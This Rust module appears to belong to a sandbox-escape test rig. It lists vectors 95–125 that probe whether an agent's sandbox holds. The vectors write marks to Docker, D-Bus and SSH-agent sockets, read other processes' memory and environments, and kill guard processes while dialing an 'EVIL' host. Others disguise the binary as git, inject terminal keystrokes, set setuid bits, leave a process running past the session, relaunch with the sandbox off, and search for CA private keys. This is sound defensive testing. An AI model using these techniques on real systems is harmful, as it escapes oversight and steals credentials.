//! Processes, kernel, terminal, desktop: sockets and processes of the host, and calls that lead out of a sandbox.

use crate::dial::{any_of, get};
use crate::rig::{EVIL, estate};
use crate::scene::{Arm, Scene};
use crate::sys;
use crate::terminal::Pair;
use crate::vector::Condition::Nested;
use crate::vector::Evidence::{Alive, Arrived, Done, Got, Left};
use crate::vector::Group::Kernel;
use crate::vector::{Attacked, SEEN, Stop, Tried, Vector, held, outside, untried};
use rustix::net::{RecvAncillaryBuffer, RecvAncillaryMessage, RecvFlags};
use std::fs::{self, File};
use std::io::{self, IoSliceMut, Read, Write};
use std::os::fd::{AsFd, AsRawFd};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::{SocketAddr, UnixDatagram, UnixStream};
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, Stdio};

/// The argument that makes this program dial the attacker, as a program under another name.
pub(crate) const COURIER: &str = "__attack-courier";

/// Vectors 95 to 125.
pub(super) const VECTORS: &[Vector] = &[
    held(95, Kernel, "sockets of the host's services", SEEN, |scene, mark| {
        any_of(["run/containerd.sock", "workspace/service.sock"].map(|name| tell(&scene.host(name), mark)))
    }),
    held(96, Kernel, "D-Bus", SEEN, |scene, mark| {
        let named = std::env::var("DBUS_SESSION_BUS_ADDRESS").unwrap_or_default();
        let named = named.trim_start_matches("unix:path=").to_owned();
        any_of([tell(Path::new(&named), mark), tell(&scene.host("run/bus"), mark)])
    }),
    held(97, Kernel, "sockets without a path", SEEN, |scene, mark| {
        let name = SocketAddr::from_abstract_name(abstract_name(scene))?;
        send(UnixStream::connect_addr(&name), mark)
    }),
    held(98, Kernel, "datagrams to a socket of the host's", SEEN, |scene, mark| {
        UnixDatagram::unbound()?.send_to(mark.as_bytes(), scene.host(estate::DATAGRAMS)).attacked("sending")?;
        Ok("sent".to_owned())
    }),
    held(99, Kernel, "a descriptor that the caller left open", Left("outside/leaked"), |scene, mark| {
        let file = sys::leaked(scene.leaked).attacked("taking it")?;
        File::from(file).write_all(mark.as_bytes()).attacked("writing")?;
        Ok("written".to_owned())
    }),
    held(100, Kernel, "a descriptor that a socket of the host's hands over", Got, |scene, _| {
        handed(&scene.host(estate::DESCRIPTORS))
    }),
    held(101, Kernel, "io_uring, which passes filters of calls by", Done, |_, _| {
        sys::io_uring().attacked("io_uring_setup").map(|_| "a ring".to_owned())
    }),
    held(102, Kernel, "calls by the numbers of i386 and x32", Done, |_, _| {
        if let Ok(pid) = sys::pid_by_x32() {
            return Ok(format!("x32 says {pid}"));
        }
        match sys::pid_by_i386() {
            pid if pid > 0 => Ok(format!("i386 says {pid}")),
            error => Err(Stop::Refused(io::Error::from_raw_os_error(-error).to_string())),
        }
    }),
    held(103, Kernel, "memory of processes that hold secrets", Got, |scene, _| {
        others(scene, |pid| {
            let memory = || {
                use std::os::unix::fs::FileExt;
                let mut text = [0; sys::HELD_LENGTH];
                let length = File::open(format!("/proc/{pid}/mem"))?.read_at(&mut text, sys::HELD_AT as u64)?;
                Ok::<_, io::Error>(String::from_utf8_lossy(&text[..length]).into_owned())
            };
            any_of([
                memory().attacked("mem"),
                sys::read_held(pid).attacked("process_vm_readv"),
                sys::seize(pid).attacked("ptrace").map(|()| "attached".to_owned()),
            ])
        })
    }),
    held(104, Kernel, "end what carries or guards the connections, and dial", SEEN, |scene, mark| {
        let ended = others(scene, |pid| {
            let target =
                rustix::process::Pid::from_raw(pid).ok_or_else(|| Stop::Untried("no such number".to_owned()))?;
            rustix::process::kill_process(target, rustix::process::Signal::KILL).attacked("kill")?;
            Ok(format!("{pid} was ended"))
        });
        get(EVIL, 80, &format!("/{mark}")).map(|_| format!("{ended:?}"))
    }),
    held(105, Kernel, "environments of other processes", Got, |scene, _| {
        others(scene, |pid| fs::read_to_string(format!("/proc/{pid}/environ")).attacked("environ"))
    }),
    held(106, Kernel, "arguments of other processes", Got, |scene, _| {
        others(scene, |pid| fs::read_to_string(format!("/proc/{pid}/cmdline")).attacked("cmdline"))
    }),
    untried(107, Kernel, "arguments of processes, on macOS", "macOS only"),
    held(108, Kernel, "directories and files that other processes hold", Got, |scene, _| {
        others(scene, |pid| fs::read_to_string(format!("/proc/{pid}/cwd/secret")).attacked("its directory"))
    }),
    held(109, Kernel, "a program under another path, or without one", SEEN, |_, mark| {
        let program = std::env::current_exe()?;
        let copy = std::env::temp_dir().join(format!("innocent-{mark}"));
        fs::copy(&program, &copy)?;
        let memory = sys::memory_file().attacked("a file in memory").map(|file| {
            let mut file = File::from(file);
            let copied = File::open(&program).and_then(|mut from| io::copy(&mut from, &mut file));
            (copied.map(|_| format!("/proc/self/fd/{}", file.as_raw_fd())), file)
        });
        let by_name = courier(Command::new(&copy), mark);
        fs::remove_file(&copy)?;
        any_of([
            by_name,
            courier(Command::new(format!("/proc/self/root{}", program.display())), mark),
            memory.and_then(|(path, _held)| courier(Command::new(path?), mark)),
        ])
    }),
    held(110, Kernel, "the agent switches its sandbox off", SEEN, |scene, mark| {
        // With the switch that there would be: a run of its own, with a rule of its own.
        let program = std::env::current_exe()?;
        let mut command = Command::new(&program);
        command.args(["run", "--allow", &format!("{EVIL}:80"), "--workspace"]).arg(scene.host("workspace"));
        command.arg("--").arg(&program);
        // The host trusts the rig, so that this works without a sandbox.
        command.env("XDG_STATE_HOME", std::env::temp_dir().join(format!("state-{mark}")));
        let tried = courier(command, mark);
        fs::remove_dir_all(std::env::temp_dir().join(format!("state-{mark}"))).ok(); // where it was made
        tried
    }),
    outside(111, Kernel, "quotes and semicolons in the wrapper's command", Left("outside/quoted")),
    held(112, Kernel, "a command in the background, without a parent", SEEN, |_, mark| {
        let mut command = Command::new(std::env::current_exe()?);
        command.process_group(0);
        courier(command, mark)
    }),
    held(113, Kernel, "typing into a terminal", Done, |_, _| type_into_terminal()),
    outside(114, Kernel, "control sequences for the caller's terminal", Arrived("]52;c;")),
    held(115, Kernel, "sockets of terminals and editors", SEEN, |scene, mark| {
        let named = std::env::var("TMUX").unwrap_or_default();
        any_of([tell(Path::new(&named), mark), tell(&scene.host("run/tmux"), mark)])
    }),
    held(116, Kernel, "the agent of SSH keys", SEEN, |scene, mark| {
        let named = std::env::var("SSH_AUTH_SOCK").unwrap_or_default();
        any_of([tell(Path::new(&named), mark), tell(&scene.host("run/agent.sock"), mark)])
    }),
    untried(117, Kernel, "events, launches and keys of macOS", "macOS only"),
    held(118, Kernel, "a process that outlives the session", Alive("workspace/alive"), outlive),
    held(119, Kernel, "a user namespace of one's own, with all capabilities in it", Done, |_, _| {
        sys::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS).attacked("unshare")?;
        Ok("all capabilities".to_owned())
    })
    .open_when(Nested, "it is what was asked for; more of the kernel can be reached from there"),
    held(120, Kernel, "a program that runs as its owner", Done, |scene, mark| {
        let path = scene.host("workspace").join(format!("owned-{mark}"));
        fs::write(&path, "#!/bin/sh\n")?;
        let set = fs::set_permissions(&path, fs::Permissions::from_mode(0o4755)).attacked("chmod");
        let mode = fs::metadata(&path)?.permissions().mode();
        fs::remove_file(&path)?;
        set?;
        if mode & 0o4000 == 0 {
            Err(Stop::Refused("the bit is not set".to_owned()))
        } else {
            Ok("the bit is set".to_owned())
        }
    }),
    held(121, Kernel, "keyrings, and files of the kernel that run programs", Done, |_, _| {
        let core = fs::OpenOptions::new().write(true).open("/proc/sys/kernel/core_pattern").attacked("core_pattern");
        any_of([
            sys::session_keyring().attacked("keyctl").map(|id| format!("keyring {id}")),
            core.map(|_| "core_pattern can be written".to_owned()),
            sys::userfaultfd().attacked("userfaultfd").map(|_| "a userfaultfd".to_owned()),
        ])
    }),
    held(122, Kernel, "Docker's socket", SEEN, |scene, mark| {
        let named = std::env::var("DOCKER_HOST").unwrap_or_default();
        any_of([tell(Path::new(named.trim_start_matches("unix://")), mark), tell(&scene.host("run/docker.sock"), mark)])
    }),
    held(123, Kernel, "the key of the authority that signs for hosts", Got, keys),
    held(124, Kernel, "a program that calls itself by an allowed one's name", SEEN, |_, mark| {
        let mut command = Command::new(std::env::current_exe()?);
        command.arg0("/usr/bin/git");
        courier(command, mark)
    }),
    held(125, Kernel, "what the caller's environment was made to hold", Got, |_, _| {
        let text: Vec<_> = std::env::vars().map(|(name, value)| format!("{name}={value}")).collect();
        Ok(text.join("\n"))
    }),
];

/// The name of the rig's socket without a path.
pub(crate) fn abstract_name(scene: &Scene) -> String {
    format!("rig-{}", scene.mark(97))
}

/// Tells a socket the mark.
fn tell(path: &Path, mark: &str) -> Tried {
    send(UnixStream::connect(path), mark)
}

fn send(connected: io::Result<UnixStream>, mark: &str) -> Tried {
    connected.attacked("connecting")?.write_all(mark.as_bytes()).attacked("sending")?;
    Ok("sent".to_owned())
}

/// Does something to every process but this one and its parent. Outside of a sandbox that is the rig's own, and no
/// other.
fn others(scene: &Scene, act: impl FnMut(i32) -> Tried) -> Tried {
    let own =
        [std::process::id(), std::os::unix::process::parent_id()].map(|pid| i32::try_from(pid).unwrap_or_default());
    let all: Vec<i32> = match scene.arm {
        Arm::Bare => vec![scene.victim],
        Arm::Boxed | Arm::Copied => {
            fs::read_dir("/proc")?.flatten().filter_map(|entry| entry.file_name().to_str()?.parse().ok()).collect()
        }
    };
    any_of(all.into_iter().filter(|pid| !own.contains(pid)).map(act))
}

/// Runs this program as something else that dials the attacker.
fn courier(mut command: Command, mark: &str) -> Tried {
    let status =
        command.args([COURIER, mark]).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).status();
    let status = status.attacked("running it")?;
    if status.success() { Ok("it ran".to_owned()) } else { Err(Stop::Refused(status.to_string())) }
}

/// What that program does.
pub(crate) fn be_courier(mark: &str) -> i32 {
    i32::from(get(EVIL, 80, &format!("/{mark}")).is_err())
}

/// Receives a descriptor and reads from it.
fn handed(path: &Path) -> Tried {
    let socket = UnixStream::connect(path).attacked("connecting")?;
    let mut buffer = [0; 8];
    let mut space = [std::mem::MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
    let mut ancillary = RecvAncillaryBuffer::new(&mut space);
    rustix::net::recvmsg(&socket, &mut [IoSliceMut::new(&mut buffer)], &mut ancillary, RecvFlags::empty())
        .attacked("receiving")?;
    let received = ancillary.drain().find_map(|message| match message {
        RecvAncillaryMessage::ScmRights(mut descriptors) => descriptors.next(),
        _ => None,
    });
    let mut text = String::new();
    File::from(received.ok_or("nothing came").attacked("receiving")?).read_to_string(&mut text).attacked("reading")?;
    Ok(text)
}

fn type_into_terminal() -> Tried {
    let pair = Pair::open()?;
    sys::ignore_hang_up();
    // Of a session that has no terminal yet, this becomes the terminal.
    rustix::process::setsid()?;
    let terminal = pair.theirs()?;
    any_of(
        [0, 1 << 32]
            .map(|upper| sys::type_into(terminal.as_fd(), upper).attacked("TIOCSTI").map(|()| "typed".to_owned())),
    )
}

/// Leaves a process that holds a lock until a FIFO of the workspace is opened, which the rig does in the end.
fn outlive(scene: &Scene, mark: &str) -> Tried {
    let path = scene.host("workspace/alive");
    fs::write(&path, mark)?;
    let end = scene.host("workspace/alive-until");
    rustix::fs::mkfifoat(rustix::fs::CWD, &end, rustix::fs::Mode::from_raw_mode(0o600))?;
    let file = File::open(&path)?;
    sys::lock(file.as_fd())?;
    // Twice, and in a session of its own: nobody's child.
    if sys::fork()?.is_some() {
        return Ok("left".to_owned());
    }
    let live = || {
        rustix::process::setsid()?;
        let nothing = fs::OpenOptions::new().read(true).write(true).open("/dev/null")?;
        (0..3).try_for_each(|standard| sys::dup2(nothing.as_fd(), standard))?;
        if sys::fork()?.is_none() {
            File::open(&end)?.read_to_end(&mut Vec::new())?;
        }
        Ok::<_, io::Error>(())
    };
    sys::exit(live().map_or(1, |()| 0))
}

/// Looks for private keys where authorities for sandboxes keep them: beside their certificates, in the home, in /run.
fn keys(scene: &Scene, _: &str) -> Tried {
    let mut open = vec![scene.host("home/.ca")];
    if scene.arm != Arm::Bare {
        let certificate = std::env::var("SSL_CERT_FILE").unwrap_or_default();
        open.extend(Path::new(&certificate).parent().map(Path::to_owned));
        open.extend(["/run", "/etc/ssl", "/tmp", "/var/tmp", "/dev/shm"].map(Into::into));
    }
    let mut searched = 0;
    while let Some(path) = open.pop() {
        if path.is_symlink() {
            continue;
        }
        if let Ok(entries) = fs::read_dir(&path) {
            open.extend(entries.flatten().map(|entry| entry.path()));
        } else if path.is_file()
            && let Ok(text) = fs::read_to_string(&path)
        {
            searched += 1;
            if text.contains("PRIVATE KEY-----") {
                return Ok(text);
            }
        }
    }
    Err(Stop::Refused(format!("none in {searched} files")))
}
